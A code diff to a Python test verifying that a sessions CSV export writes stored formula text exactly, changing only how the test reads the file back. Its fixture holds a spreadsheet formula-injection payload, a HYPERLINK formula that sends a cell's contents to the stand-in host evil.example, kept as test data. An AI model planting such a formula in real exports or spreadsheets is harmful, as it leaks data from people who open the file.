@@ -92,7 +92,7 @@ def test_export_sessions_writes_stored_formula_text_exactly_for_the_pipeline(db,
     # Attribution stored before /track refused such text: sessions.csv is pipeline input, exact
     # data like the report files (README, "Text in report files"), so it is written unchanged,
     # quoted as CSV, and reads back identically with the pipeline's own reader.
-    from analytics.pipeline.inputs import scan_input
+    from analytics.pipeline.inputs import SESSIONS, read_header, scan_input
 
     player = PlayerFactory(username="legacy_player")
     media_source = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -113,6 +113,6 @@ def test_export_sessions_writes_stored_formula_text_exactly_for_the_pipeline(db,
         'legacy_player,2025-10-02T09:00:00Z,,"=HYPERLINK(""https://evil.example/?""&A1,""open"")",'
         '"+1,""quoted""\nsecond line"\n'
     )
-    assert scan_input(out).select("media_source", "campaign").collect().rows() == [
-        (media_source, campaign)
-    ]
+    assert scan_input(read_header(SESSIONS, out)).select(
+        "media_source", "campaign"
+    ).collect().rows() == [(media_source, campaign)]
